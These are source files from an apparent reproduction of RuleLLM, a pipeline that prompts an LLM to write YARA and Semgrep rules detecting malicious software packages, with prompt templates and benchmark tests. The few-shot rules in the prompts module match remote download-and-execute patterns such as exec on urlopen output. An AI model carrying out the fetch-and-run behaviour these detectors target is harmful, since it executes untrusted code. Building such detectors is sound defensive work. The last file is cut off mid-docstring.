        scored.sort(key=lambda item: (item[0], item[1].size), reverse=True)
        ordered = [unit for _score, unit in scored]
        scores = [score for score, _unit in scored]
        return ordered, scores

    def _craft_metadata_rule(self, cluster_id: int, packages: list[Package],
                             rule_format: str, rng: DeterministicRandom) -> CoarseRule | None:
        sample = packages[0]
        metadata = extract_metadata(sample)
        # "We only focus on the suspicious parts of the metadata" (Section IV-A):
        # clusters with unremarkable metadata do not get a metadata rule.
        if not metadata_audit(metadata).suspicious or not rng.coin(0.6):
            return None
        metadata_json = metadata.to_json()
        request = prompts.render_craft_prompt(
            rule_format=rule_format,
            code_units=[],
            metadata_json=metadata_json,
        )
        response = self.provider.complete(request)
        rule_text = protocol.extract_rule_from_completion(response.text)
        if not rule_text.strip():
            return None
        return CoarseRule(
            format=rule_format,
            text=rule_text,
            analysis_text=protocol.extract_analysis_from_completion(response.text),
            cluster_id=cluster_id,
            source_packages=[sample.identifier],
            origin="metadata",
        )
