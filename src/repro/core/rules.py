"""Generated-rule containers.

A :class:`GeneratedRule` is one finished rule together with its provenance
(which cluster / packages it came from, which analysis text supported it,
how many repair attempts it needed).  A :class:`GeneratedRuleSet` is the
pipeline's final output: it compiles into the two engines, serialises to a
rules directory and feeds every evaluation experiment.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable

from repro.semgrepx import CompiledSemgrepRuleSet
from repro.semgrepx import compiler as semgrep_compiler
from repro.yarax import CompiledRuleSet
from repro.yarax import compiler as yara_compiler

YARA_FORMAT = "yara"
SEMGREP_FORMAT = "semgrep"


@dataclass
class GeneratedRule:
    """One deployable rule plus its provenance."""

    format: str
    name: str
    text: str
    cluster_id: int | None = None
    source_packages: list[str] = field(default_factory=list)
    analysis_text: str = ""
    fix_attempts: int = 0
    compiled_ok: bool = True
    origin: str = "code"  # "code" or "metadata"

    def __post_init__(self) -> None:
        if self.format not in (YARA_FORMAT, SEMGREP_FORMAT):
            raise ValueError(f"unknown rule format: {self.format}")

    @property
    def is_yara(self) -> bool:
        return self.format == YARA_FORMAT

    @property
    def is_semgrep(self) -> bool:
        return self.format == SEMGREP_FORMAT

    @property
    def file_name(self) -> str:
        extension = "yar" if self.is_yara else "yaml"
        safe = self.name.replace("/", "_").replace(" ", "_")
        return f"{safe}.{extension}"


@dataclass
class GeneratedRuleSet:
    """The pipeline's output: every successfully generated rule."""

    rules: list[GeneratedRule] = field(default_factory=list)
    rejected: list[GeneratedRule] = field(default_factory=list)
    model: str = ""

    # -- accessors ----------------------------------------------------------------
    @property
    def yara_rules(self) -> list[GeneratedRule]:
        return [rule for rule in self.rules if rule.is_yara]

    @property
    def semgrep_rules(self) -> list[GeneratedRule]:
        return [rule for rule in self.rules if rule.is_semgrep]

    def __len__(self) -> int:
        return len(self.rules)

    def counts(self) -> dict[str, int]:
        return {
            "total": len(self.rules),
            "yara": len(self.yara_rules),
            "semgrep": len(self.semgrep_rules),
            "rejected": len(self.rejected),
        }

    def add(self, rule: GeneratedRule) -> None:
        self.rules.append(rule)

    def reject(self, rule: GeneratedRule) -> None:
        rule.compiled_ok = False
        self.rejected.append(rule)

    def extend(self, other: "GeneratedRuleSet") -> None:
        self.rules.extend(other.rules)
        self.rejected.extend(other.rejected)

    # -- compilation into the engines ------------------------------------------------
    def compile_yara(self) -> CompiledRuleSet:
        """Compile every YARA rule into one scanning rule set.

        Rule names are de-duplicated defensively (two clusters can in
        principle produce the same derived name).
        """
        seen: set[str] = set()
        sources: list[str] = []
        for index, rule in enumerate(self.yara_rules):
            text = rule.text
            if rule.name in seen:
                text = text.replace(f"rule {rule.name}", f"rule {rule.name}_{index}", 1)
            seen.add(rule.name)
            sources.append(text)
        if not sources:
            return CompiledRuleSet()
        return yara_compiler.compile_source("\n\n".join(sources))

    def compile_semgrep(self) -> CompiledSemgrepRuleSet:
        """Compile every Semgrep rule into one scanning rule set."""
        compiled = CompiledSemgrepRuleSet()
        seen: set[str] = set()
        for index, rule in enumerate(self.semgrep_rules):
            text = rule.text
            loaded = semgrep_compiler.compile_yaml(text)
            for compiled_rule in loaded.rules:
                if compiled_rule.id in seen:
                    compiled_rule.rule.id = f"{compiled_rule.id}-{index}"
                seen.add(compiled_rule.rule.id)
                compiled.rules.append(compiled_rule)
        return compiled

    # -- persistence --------------------------------------------------------------------
    def save(self, directory: str | Path) -> Path:
        """Write rules to ``directory/yara/*.yar`` and ``directory/semgrep/*.yaml``."""
        root = Path(directory)
        (root / "yara").mkdir(parents=True, exist_ok=True)
        (root / "semgrep").mkdir(parents=True, exist_ok=True)
        for rule in self.rules:
            subdir = "yara" if rule.is_yara else "semgrep"
            (root / subdir / rule.file_name).write_text(rule.text, encoding="utf-8")
        return root

    @classmethod
    def load(cls, directory: str | Path) -> "GeneratedRuleSet":
        """Load a rule set previously written by :meth:`save`."""
        root = Path(directory)
        result = cls()
        for path in sorted((root / "yara").glob("*.yar")) if (root / "yara").is_dir() else []:
            result.add(GeneratedRule(format=YARA_FORMAT, name=path.stem,
                                     text=path.read_text(encoding="utf-8")))
        for path in sorted((root / "semgrep").glob("*.yaml")) if (root / "semgrep").is_dir() else []:
            result.add(GeneratedRule(format=SEMGREP_FORMAT, name=path.stem,
                                     text=path.read_text(encoding="utf-8")))
        return result


def combine(rule_sets: Iterable[GeneratedRuleSet]) -> GeneratedRuleSet:
    """Plain concatenation of rule sets (no collision handling).

    Sharded generation should NOT use this: fleet merging needs rule-name
    collision resolution, cross-shard dedup and deterministic ordering —
    that policy lives in :func:`repro.scanserve.registry.merge_shard_rulesets`
    (what ``RulesetRegistry.publish_merged`` runs).
    """
    combined = GeneratedRuleSet()
    for rule_set in rule_sets:
        combined.extend(rule_set)
        if not combined.model:
            combined.model = rule_set.model
    return combined
