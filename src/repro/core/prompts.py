"""Prompt templates (paper Tables III, IV and V).

Each renderer produces a ``(system, user)`` pair following the paper's
prompt structure: a system role describing the task and the chain-of-thought
steps, and a user message carrying the actual inputs.  Payload sections are
delimited with the wire-protocol markers from :mod:`repro.llm.protocol` so
any provider (real or simulated) can locate them.
"""

from __future__ import annotations

from repro.llm import protocol
from repro.llm.base import CompletionRequest

_FEW_SHOT_YARA = """\
rule Example_Suspicious_Download
{
    meta:
        description = "Example rule: second-stage download and execution"
        author = "RuleLLM"
    strings:
        $a = "urllib.request.urlretrieve("
        $b = "os.startfile("
    condition:
        any of them
}"""

_FEW_SHOT_SEMGREP = """\
rules:
  - id: example-detect-remote-exec
    languages: [python]
    severity: WARNING
    message: Example rule - execution of code fetched over the network
    pattern: exec(urllib.request.urlopen($URL, ...).read())"""


def _format_label(rule_format: str) -> str:
    return "YARA" if rule_format == protocol.FORMAT_YARA else "Semgrep"


def _few_shot(rule_format: str) -> str:
    return _FEW_SHOT_YARA if rule_format == protocol.FORMAT_YARA else _FEW_SHOT_SEMGREP


# -- Table III: crafting -----------------------------------------------------------

CRAFT_SYSTEM_TEMPLATE = """\
Task. As a senior malware code analyst, please analyze the following code samples
from the same malware cluster and design effective {label} rules. These samples are
variants from the same malware family.

Thought Process:
1. Initial Analysis: perform a code audit on each basic unit and summarise it.
2. In-depth Analysis: extract features or strings covering IoC, file operations,
   network activity, encryption, privilege operations and anti-debug behaviour.
3. External Knowledge Analysis: determine whether the input matches known malicious
   behaviour patterns (worm propagation, ransomware encryption, remote command
   execution) and reuse existing patterns where applicable.
4. Understanding and Validation: ensure reasoning consistency and confirm the rule
   covers the behaviours exhibited by the code.

Output.
1. Analysis Result (*.txt format)
2. Write {label} rules based on the analysis result."""


def render_craft_prompt(
    rule_format: str,
    code_units: list[str],
    metadata_json: str | None = None,
) -> CompletionRequest:
    """Render the basic-unit rule-creation prompt (Table III)."""
    label = _format_label(rule_format)
    system = CRAFT_SYSTEM_TEMPLATE.format(label=label)
    parts = [
        protocol.section("TASK", protocol.TASK_CRAFT),
        protocol.section("FORMAT", rule_format),
    ]
    for index, unit in enumerate(code_units, start=1):
        parts.append(protocol.section(f"SAMPLE {index}", unit))
    if metadata_json:
        parts.append(protocol.section("METADATA", metadata_json))
    parts.append(protocol.section("FEW_SHOT", _few_shot(rule_format)))
    return CompletionRequest.from_prompt(system, "\n".join(parts), tag=protocol.TASK_CRAFT)


# -- direct prompting (LLM-alone baseline, Table X row 1) -----------------------------

DIRECT_SYSTEM_TEMPLATE = """\
Task. You are a malware analyst. Read the following software package and write a
{label} rule that detects it. Output the rule only."""


def render_direct_prompt(rule_format: str, package_source: str,
                         metadata_json: str | None = None) -> CompletionRequest:
    """Render the single-shot prompt used by the 'LLMs alone' ablation arm."""
    label = _format_label(rule_format)
    system = DIRECT_SYSTEM_TEMPLATE.format(label=label)
    parts = [
        protocol.section("TASK", protocol.TASK_DIRECT),
        protocol.section("FORMAT", rule_format),
        protocol.section("SAMPLE 1", package_source),
    ]
    if metadata_json:
        parts.append(protocol.section("METADATA", metadata_json))
    return CompletionRequest.from_prompt(system, "\n".join(parts), tag=protocol.TASK_DIRECT)


# -- Table IV: refining ----------------------------------------------------------------

REFINE_SYSTEM_TEMPLATE = """\
Task. You are a {label} rule expert. Your task is to analyze and optimize the input
rules. Please follow these steps to ensure the rules are complete and efficient:

Thought Process:
1. Self-reflection: check that the rules align with the analysis result; revise any
   rule that does not.
2. Optimize Rules: make the string section encapsulate malicious behaviours, apply
   standard naming, merge overlapping rules with logical combinations
   (all of them / any of them / regular expressions), remove rules with smaller
   coverage, keep the required structure, and avoid resource-intensive operations.

Output: {label} rules."""


def render_refine_prompt(rule_format: str, analysis_text: str,
                         rule_texts: list[str]) -> CompletionRequest:
    """Render the rule-refinement prompt (Table IV)."""
    label = _format_label(rule_format)
    system = REFINE_SYSTEM_TEMPLATE.format(label=label)
    parts = [
        protocol.section("TASK", protocol.TASK_REFINE),
        protocol.section("FORMAT", rule_format),
        protocol.section("ANALYSIS", analysis_text or "(no analysis provided)"),
    ]
    for index, rule_text in enumerate(rule_texts, start=1):
        parts.append(protocol.section(f"RULE {index}", rule_text))
    return CompletionRequest.from_prompt(system, "\n".join(parts), tag=protocol.TASK_REFINE)


# -- Table V: fixing ------------------------------------------------------------------------

FIX_SYSTEM_TEMPLATE = """\
Task. You are a {label} rule expert. Your task is to fix and optimize the input rules.
Please follow these steps to ensure the rules are complete, syntactically correct, and
efficient:

Instruction.
1. Missing or Incomplete Parts: ensure the rule contains every required section.
2. Syntax Errors: fix unmatched brackets, unclosed quotes and similar issues.
3. Undefined Strings in Conditions: every string referenced by the condition must be
   defined in the strings section.
4. Regular Expression Issues: validate correctness and efficiency of regex patterns.
5. Invalid meta Field Values: meta fields must be well-formatted and meaningful.
6. File Encoding Issues: the rule must be plain UTF-8 without a BOM."""


def render_fix_prompt(rule_format: str, rule_text: str, error_messages: list[str],
                      analysis_text: str = "") -> CompletionRequest:
    """Render the rule-fixing prompt used by the alignment agent (Table V)."""
    label = _format_label(rule_format)
    system = FIX_SYSTEM_TEMPLATE.format(label=label)
    parts = [
        protocol.section("TASK", protocol.TASK_FIX),
        protocol.section("FORMAT", rule_format),
    ]
    if analysis_text:
        parts.append(protocol.section("ANALYSIS", analysis_text))
    parts.append(protocol.section("RULE", rule_text))
    for index, error in enumerate(error_messages, start=1):
        parts.append(protocol.section(f"ERROR {index}", error))
    return CompletionRequest.from_prompt(system, "\n".join(parts), tag=protocol.TASK_FIX)
