"""Figure 9: CDF of malware coverage per generated YARA rule."""

from conftest import run_once, save_report


def test_bench_fig9_yara_coverage(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.figure9_yara_coverage)
    rendered = result.render()
    save_report(report_dir, "fig9_yara_coverage", rendered)
    print("\n" + rendered)

    cdf = result.cdf
    assert cdf.rule_count == len(suite.yara_rule_stats)
    fractions = [fraction for _value, fraction in cdf.points]
    assert fractions == sorted(fractions)
    # a sizeable share of YARA rules is narrow, while a few broad rules cover a
    # large part of the corpus (the paper's generated rules skew even narrower;
    # see EXPERIMENTS.md for the discussion of this gap)
    malware_count = len(suite.dataset.malware)
    narrow_cutoff = max(2, round(malware_count * 0.06))
    assert cdf.fraction_below(narrow_cutoff) >= 0.15
    assert cdf.max_coverage() >= malware_count * 0.2
