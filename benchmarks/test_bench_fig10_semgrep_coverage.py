"""Figure 10: CDF of malware coverage per generated Semgrep rule."""

from conftest import run_once, save_report


def test_bench_fig10_semgrep_coverage(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.figure10_semgrep_coverage)
    rendered = result.render()
    save_report(report_dir, "fig10_semgrep_coverage", rendered)
    print("\n" + rendered)

    yara_cdf = suite.figure9_yara_coverage().cdf
    semgrep_cdf = result.cdf
    assert semgrep_cdf.rule_count == len(suite.semgrep_rule_stats)
    # the paper: Semgrep rules have broader coverage than YARA rules -- the
    # fraction of narrow rules (covering < ~6% of the corpus) is smaller.
    malware_count = len(suite.dataset.malware)
    narrow_cutoff = max(2, round(malware_count * 0.06))
    assert semgrep_cdf.fraction_below(narrow_cutoff) <= yara_cdf.fraction_below(narrow_cutoff) + 0.15
    assert semgrep_cdf.max_coverage() >= malware_count * 0.2
