"""Table XII: taxonomy of the generated rules (11 categories / 38 subcategories)."""

from conftest import run_once, save_report


def test_bench_table12_taxonomy(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.table12_taxonomy)
    rendered = result.render()
    save_report(report_dir, "table12_taxonomy", rendered)
    print("\n" + rendered)

    totals = result.category_totals()
    # categories are non-exclusive, so labels outnumber rules (paper: 1,217
    # labels over 452 YARA rules)
    assert result.total_labels >= len(suite.ruleset.rules)
    # the behaviour-heavy categories dominate, as in the paper
    top = sorted(totals, key=totals.get, reverse=True)[:4]
    assert ("Network Related" in top) or ("Malicious Behavior" in top) or ("Obfuscation & Anti-Detection" in top)
    # at least half of the 11 categories are represented
    assert len([c for c, count in totals.items() if count > 0]) >= 6
