"""Table VI: dataset statistics (packages, dedup, average LoC)."""

from conftest import run_once, save_report


def test_bench_table6_dataset(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.table6_dataset)
    rendered = result.render()
    save_report(report_dir, "table6_dataset", rendered)
    print("\n" + rendered)

    rows = {name: (total, unique, loc) for name, total, unique, loc in result.rows}
    malware_total, malware_unique, malware_loc = rows["Malware"]
    benign_total, benign_unique, benign_loc = rows["Legitimate"]
    # shape checks mirroring the paper: heavy duplication in the malware feed,
    # no duplication in the benign slice, and benign packages are much larger.
    assert malware_unique < malware_total
    assert 0.35 <= malware_unique / malware_total <= 0.65
    assert benign_unique == benign_total
    assert benign_loc > 2 * malware_loc
