"""Table XI: rule inventory of RuleLLM vs the SOTA community rule sets."""

from conftest import run_once, save_report


def test_bench_table11_rule_counts(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.table11_rule_counts)
    rendered = result.render()
    save_report(report_dir, "table11_rule_counts", rendered)
    print("\n" + rendered)

    malware_count = len(suite.dataset.malware)
    # the paper generates 452 YARA + 311 Semgrep rules from 1,633 packages
    # (~0.28 / ~0.19 rules per package); both formats are produced and YARA
    # dominates, at a per-package ratio in the same neighbourhood.
    assert result.yara_generated > 0
    assert result.semgrep_generated > 0
    assert result.yara_generated >= result.semgrep_generated
    assert 0.1 <= result.yara_generated / malware_count <= 0.8
    assert 0.05 <= result.semgrep_generated / malware_count <= 0.6
