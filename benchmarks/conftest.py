"""Shared infrastructure for the benchmark harness.

Every benchmark regenerates one of the paper's tables or figures through
:class:`repro.evaluation.experiments.ExperimentSuite`.  The expensive
intermediates (corpus, pipeline run, detection results) are built once per
benchmark session and shared.

The corpus size is controlled by the ``REPRO_BENCH_SCALE`` environment
variable (fraction of the paper-scale corpus; default 0.10, i.e. ~320 malware
uploads and 50 legitimate packages).  Set it to ``1.0`` to regenerate the
experiments at full paper scale.

Each benchmark also writes its rendered table/figure to
``benchmarks/reports/<experiment>.txt`` so the regenerated artefacts can be
inspected after the run.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from repro.core.config import RuleLLMConfig
from repro.corpus.dataset import DatasetConfig
from repro.evaluation.experiments import ExperimentSuite

REPORT_DIR = Path(__file__).parent / "reports"


def _bench_scale() -> float:
    raw = os.environ.get("REPRO_BENCH_SCALE", "0.10")
    try:
        scale = float(raw)
    except ValueError:
        scale = 0.10
    return max(0.01, min(scale, 1.0))


def bench_dataset_config() -> DatasetConfig:
    scale = _bench_scale()
    config = DatasetConfig(scale=scale)
    if scale < 0.5:
        # keep benign packages moderately sized so scaled-down runs stay quick
        config.benign_modules_range = (3, 6)
        config.benign_pieces_per_module_range = (8, 16)
    return config


@pytest.fixture(scope="session")
def suite() -> ExperimentSuite:
    return ExperimentSuite(bench_dataset_config(), RuleLLMConfig.full())


@pytest.fixture(scope="session")
def report_dir() -> Path:
    REPORT_DIR.mkdir(parents=True, exist_ok=True)
    return REPORT_DIR


def save_report(report_dir: Path, name: str, rendered: str) -> None:
    (report_dir / f"{name}.txt").write_text(rendered + "\n", encoding="utf-8")


def run_once(benchmark, fn):
    """Run an experiment exactly once under pytest-benchmark timing."""
    return benchmark.pedantic(fn, rounds=1, iterations=1, warmup_rounds=0)
