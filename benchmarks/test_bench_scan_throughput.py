"""Scan throughput: naive per-rule scanning vs the scanserve atom index.

Reproduces the headline claim of the ``repro.scanserve`` subsystem: with a
registry-sized YARA rule set (>= 100 rules — the pipeline's own rules plus
synthetic registry rules mixing plain, ``nocase`` and regex strings, as real
deployments do), indexed scanning is at least 5x faster than naive scanning
while producing bit-for-bit identical detections.  Results (packages/sec for
naive, indexed, and 1-4 service shards) are written to
``benchmarks/reports/scan_throughput.json``.

The throughput lanes are YARA-only by design: naive YARA scanning is
O(rules x packages) regex evaluation, which is exactly what the atom index
removes.  The Semgrep engine already prefilters on pattern anchors and its
cost is per-file structural matching rather than per-rule text scanning, so
rule-count scaling does not apply there (Semgrep parity with the index is
covered by the tier-1 suite).
"""

import json
import os
import time

from conftest import REPORT_DIR, run_once

from repro.evaluation.detector import RuleScanner, prepare_packages
from repro.scanserve import AhoCorasick, RuleIndex, ScanService, ScanServiceConfig
from repro.utils.hashing import stable_hash
from repro.yarax import compile_source

TARGET_RULE_COUNT = 200
#: Registry-scale regimes: ~1k live rules (a single busy tenant) and 5k
#: (a multi-tenant gateway's merged inventory, the packed lane's home turf).
REGISTRY_SCALE_POINTS = (1000, 5000)
MIN_SPEEDUP = 5.0

#: Atom-vocabulary sizes for the lane-crossover sweep (substring vs
#: dict-automaton vs packed); texts/sec per lane shows where each lane wins.
CROSSOVER_ATOM_SIZES = (64, 128, 256, 384, 512, 1024, 2048, 4096)
CROSSOVER_TEXTS = 48

#: Ceiling on what the repro.obs seams may cost the scan hot path when the
#: tracer is disabled (the default everywhere outside --trace runs).
MAX_OBS_OVERHEAD = 0.05


def _synthetic_registry_rules(count: int, start: int = 0) -> str:
    """Registry-style filler rules: unique atoms that rarely match.

    Mirrors a production deployment where most of the rule inventory targets
    other malware families than the package being scanned — exactly the
    situation an atom prefilter exploits.  String kinds rotate through the
    mix real registry rules use: case-sensitive literals, ``nocase``
    literals, and regexes with literal cores.
    """
    sources = []
    for i in range(start, start + count):
        token_a = f"registry_atom_{i}_{stable_hash(f'a{i}', bits=32):08x}"
        token_b = f"c2_domain_{i}_{stable_hash(f'b{i}', bits=32):08x}"
        if i % 3 == 0:
            string_a = f'$a = "{token_a}"'
            string_b = f'$b = "{token_b}.example"'
        elif i % 3 == 1:
            string_a = f'$a = "{token_a}" nocase'
            string_b = f'$b = "{token_b}.example" nocase'
        else:
            string_a = f"$a = /{token_a}[0-9a-f]{{4,16}}/"
            string_b = f"$b = /https?:..{token_b}\\.example/"
        sources.append(
            f"rule registry_filler_{i} {{\n"
            f"    strings:\n        {string_a}\n        {string_b}\n"
            f"    condition:\n        any of them\n}}"
        )
    return "\n\n".join(sources)


def test_bench_scan_throughput(benchmark, suite, report_dir):
    def experiment():
        yara = suite.ruleset.compile_yara()
        filler = compile_source(
            _synthetic_registry_rules(max(0, TARGET_RULE_COUNT - len(yara)))
        )
        yara = yara.extend(filler)
        assert len(yara) >= 100, "speedup claim requires a registry-sized rule set"

        packages = suite.dataset.packages
        prepared = prepare_packages(packages)
        for p in prepared:  # materialise haystacks so both lanes time pure scanning
            p.yara_text

        naive_scanner = RuleScanner(yara_rules=yara)
        start = time.perf_counter()
        naive = naive_scanner.scan(prepared)
        naive_seconds = time.perf_counter() - start

        index = RuleIndex(yara=yara)
        indexed_scanner = RuleScanner(yara_rules=yara, index=index)
        start = time.perf_counter()
        indexed = indexed_scanner.scan(prepared)
        indexed_seconds = time.perf_counter() - start

        # bit-for-bit identical detections
        assert [(d.package, d.yara_rules) for d in naive.detections] == [
            (d.package, d.yara_rules) for d in indexed.detections
        ]

        speedup = naive_seconds / indexed_seconds if indexed_seconds > 0 else float("inf")
        stats = index.stats()
        report = {
            "rules": {
                "yara": len(yara),
                "indexed_fraction": round(stats.indexed_fraction, 4),
                "atoms": stats.atoms,
            },
            "packages": len(packages),
            "naive": {
                "seconds": round(naive_seconds, 4),
                "packages_per_second": round(len(packages) / naive_seconds, 2),
            },
            "indexed": {
                "seconds": round(indexed_seconds, 4),
                "packages_per_second": round(len(packages) / indexed_seconds, 2),
            },
            "speedup": round(speedup, 2),
            "shards": [],
        }

        # service lanes: 1-4 shards (includes per-package preparation cost).
        # Chunked dispatch ships one contiguous batch per worker and fork
        # workers inherit the publish-time packed index, so the process
        # lane's fixed overhead is per batch, not per package — but on a
        # single-core runner process workers still time-slice one CPU, so
        # the win is only asserted when the hardware can show it.
        cpu_count = os.cpu_count() or 1
        report["cpu_count"] = cpu_count
        for shards in (1, 2, 4):
            service = ScanService(
                config=ScanServiceConfig(shards=shards, mode="auto", enable_cache=False)
            )
            service.publish(yara=yara, label="bench")
            batch = service.scan_batch(packages)
            report["shards"].append(
                {
                    "shards": shards,
                    "mode": batch.mode,
                    "workers": batch.workers,
                    "seconds": round(batch.elapsed_seconds, 4),
                    "packages_per_second": round(batch.packages_per_second, 2),
                }
            )
            assert [(d.package, d.yara_rules) for d in batch.detections] == [
                (d.package, d.yara_rules) for d in naive.detections
            ]
        if cpu_count >= 2:
            inproc = report["shards"][0]["packages_per_second"]
            best_process = max(
                point["packages_per_second"]
                for point in report["shards"]
                if point["mode"] == "process"
            )
            assert best_process >= inproc * 0.9, (
                f"process shards ({best_process} pkg/s) should at least match "
                f"in-process ({inproc} pkg/s) on {cpu_count} cores"
            )

        # observability tax: scan_batch now crosses repro.obs seams (spans
        # around batch/dispatch/chunk, registry counter and histogram
        # updates).  With the tracer *disabled* — the default — the span
        # seams must be no-ops: measure both unit costs directly, scale them
        # to one batch, and guard the fraction of the measured 1-shard batch
        # time (also enforced by check_regression.py on fresh reports).  An
        # A/B lane with tracing fully on is reported for inspection but not
        # asserted: on a ~100ms batch, scheduler noise dwarfs four spans.
        from repro.obs import (
            configure_tracing,
            disable_tracing,
            get_registry,
            get_tracer,
        )

        tracer = get_tracer()
        assert not tracer.enabled, "bench must start with tracing disabled"
        reps = 100_000
        start = time.perf_counter()
        for _ in range(reps):
            with tracer.span("bench.noop", packages=0):
                pass
        per_span = (time.perf_counter() - start) / reps

        probe = get_registry().counter(
            "repro_bench_obs_probe_total",
            "bench-only unit-cost probe; never emitted by product code",
            ("lane",),
        )
        start = time.perf_counter()
        for _ in range(reps):
            probe.inc(lane="bench")
        per_inc = (time.perf_counter() - start) / reps

        one_shard_seconds = report["shards"][0]["seconds"]
        # per in-process batch: scan.batch + scan.dispatch + one scan.chunk
        # span per chunk (1 here), and ~8 registry updates (batch/package/
        # cache counters + the batch-seconds histogram observe)
        disabled_overhead = per_span * 3.0 + per_inc * 8.0
        overhead_fraction = disabled_overhead / max(one_shard_seconds, 1e-9)

        configure_tracing(enabled=True)
        try:
            traced_service = ScanService(
                config=ScanServiceConfig(
                    shards=1, mode="inprocess", enable_cache=False
                )
            )
            traced_service.publish(yara=yara, label="bench-traced")
            traced_batch = traced_service.scan_batch(packages)
        finally:
            disable_tracing()
        report["obs_overhead"] = {
            "noop_span_ns": round(per_span * 1e9, 1),
            "counter_inc_ns": round(per_inc * 1e9, 1),
            "disabled_overhead_fraction": round(overhead_fraction, 6),
            "traced_inprocess": {
                "seconds": round(traced_batch.elapsed_seconds, 4),
                "packages_per_second": round(
                    traced_batch.packages_per_second, 2
                ),
            },
        }
        assert overhead_fraction <= MAX_OBS_OVERHEAD, (
            f"disabled-tracer obs seams cost {overhead_fraction:.2%} of a "
            f"1-shard batch (ceiling {MAX_OBS_OVERHEAD:.0%})"
        )

        # registry-scale points: 1k live rules (a single busy tenant) and 5k
        # (a gateway's merged multi-tenant inventory).  The indexed lane is
        # timed over the full corpus; the naive lane only over a shrinking
        # subsample — at registry scale full naive scanning is exactly the
        # O(rules x packages) cost this index exists to avoid.
        report["registry_scale"] = []
        registry_yara = yara
        biggest_index = None
        for point_rules in REGISTRY_SCALE_POINTS:
            extra = compile_source(
                _synthetic_registry_rules(
                    point_rules - len(registry_yara), start=len(registry_yara)
                )
            )
            registry_yara = registry_yara.extend(extra)
            assert len(registry_yara) == point_rules

            big_index = RuleIndex(yara=registry_yara)
            biggest_index = big_index
            big_scanner = RuleScanner(yara_rules=registry_yara, index=big_index)
            start = time.perf_counter()
            big_indexed = big_scanner.scan(prepared)
            big_indexed_seconds = time.perf_counter() - start

            subsample = prepared[: min(max(4, 16000 // point_rules), len(prepared))]
            naive_big = RuleScanner(yara_rules=registry_yara)
            start = time.perf_counter()
            naive_big_result = naive_big.scan(subsample)
            naive_big_seconds = time.perf_counter() - start
            assert [
                (d.package, d.yara_rules)
                for d in big_indexed.detections[: len(subsample)]
            ] == [(d.package, d.yara_rules) for d in naive_big_result.detections]

            big_stats = big_index.stats()
            # at registry scale the packed automaton must be the chosen lane
            assert big_stats.lane == "automaton", big_stats
            big_pps = (
                len(prepared) / big_indexed_seconds if big_indexed_seconds > 0 else 0.0
            )
            naive_big_pps = (
                len(subsample) / naive_big_seconds if naive_big_seconds > 0 else 0.0
            )
            report["registry_scale"].append(
                {
                    "rules": len(registry_yara),
                    "indexed_fraction": round(big_stats.indexed_fraction, 4),
                    "atoms": big_stats.atoms,
                    "lane": big_stats.lane,
                    "packed_mode": big_stats.packed_mode,
                    "packed_memory_mb": round(
                        big_stats.packed_memory_bytes / 1e6, 2
                    ),
                    "indexed": {
                        "packages": len(prepared),
                        "seconds": round(big_indexed_seconds, 4),
                        "packages_per_second": round(big_pps, 2),
                    },
                    "naive_subsample": {
                        "packages": len(subsample),
                        "seconds": round(naive_big_seconds, 4),
                        "packages_per_second": round(naive_big_pps, 2),
                    },
                    "speedup": (
                        round(big_pps / naive_big_pps, 2) if naive_big_pps else None
                    ),
                }
            )

        # lane-crossover sweep: texts/sec for the per-atom substring scan,
        # the dict-of-dicts automaton walk, the packed single-text walk, and
        # the packed batch lane, at growing atom-vocabulary sizes.  This is
        # the measurement behind the default ``automaton_threshold``.
        vocabulary = biggest_index._automaton.words
        folded_texts = [p.folded_text for p in prepared[:CROSSOVER_TEXTS]]
        report["crossover"] = []
        for size in CROSSOVER_ATOM_SIZES:
            if size > len(vocabulary):
                break
            lanes = AhoCorasick(vocabulary[:size])
            point = {"atoms": size}
            for lane_name, scan in (
                ("substring", lambda: [lanes.find_substring(t) for t in folded_texts]),
                ("dict_automaton", lambda: [lanes.find_automaton(t) for t in folded_texts]),
                ("packed", lambda: [lanes.packed.find(t) for t in folded_texts]),
                ("packed_batch", lambda: lanes.find_batch(folded_texts)),
            ):
                start = time.perf_counter()
                hits = scan()
                seconds = time.perf_counter() - start
                point[lane_name] = round(
                    len(folded_texts) / seconds if seconds > 0 else 0.0, 1
                )
                if lane_name == "substring":
                    expected = hits
                else:
                    assert hits == expected, f"{lane_name} diverged at {size} atoms"
            report["crossover"].append(point)
        return report

    report = run_once(benchmark, experiment)
    (REPORT_DIR / "scan_throughput.json").write_text(
        json.dumps(report, indent=2, sort_keys=True) + "\n", encoding="utf-8"
    )
    print("\n" + json.dumps(report, indent=2, sort_keys=True))

    assert report["speedup"] >= MIN_SPEEDUP, (
        f"indexed scanning is only {report['speedup']}x faster than naive "
        f"(claim: >= {MIN_SPEEDUP}x at >= 100 rules)"
    )
