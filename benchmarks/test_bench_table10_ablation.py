"""Table X: ablation of RuleLLM's components (crafting / combination / alignment)."""

from conftest import run_once, save_report


def test_bench_table10_ablation(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.table10_ablation)
    rendered = result.render()
    save_report(report_dir, "table10_ablation", rendered)
    print("\n" + rendered)

    by_name = {row.name: row.metrics for row in result.rows}
    alone = by_name["LLMs alone"]
    aligned = by_name["LLM + Rule Alignment"]
    units = by_name["LLM + Basic-unit Rule + Rule Alignment"]
    full = by_name["LLM + Basic-unit Rule + Combination + Rule Alignment"]

    # the paper's qualitative ablation findings:
    # every added component improves recall, and the full pipeline is best.
    assert aligned.recall >= alone.recall
    assert units.recall >= aligned.recall * 0.95
    assert full.recall >= alone.recall
    assert full.f1 >= alone.f1
    assert full.f1 == max(row.metrics.f1 for row in result.rows)
