"""Figure 7: per-rule precision distribution of the generated YARA rules."""

from conftest import run_once, save_report


def test_bench_fig7_yara_precision(benchmark, suite, report_dir):
    result = run_once(benchmark, suite.figure7_yara_precision)
    rendered = result.render()
    save_report(report_dir, "fig7_yara_precision", rendered)
    print("\n" + rendered)

    total_matching = sum(count for _label, count in result.series)
    assert total_matching + result.zero_match_rules == len(suite.yara_rule_stats)
    # the paper: most YARA rules sit in the top precision bucket, and a small
    # set of rules matches no package at all
    top_bucket = result.series[-1][1]
    assert top_bucket >= total_matching * 0.4
    assert result.zero_match_rules >= 0
    assert result.high_precision_rules > 0
