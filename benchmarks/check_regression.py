"""Benchmark regression guard for the scan-throughput report.

Compares a freshly generated ``scan_throughput.json`` against a committed
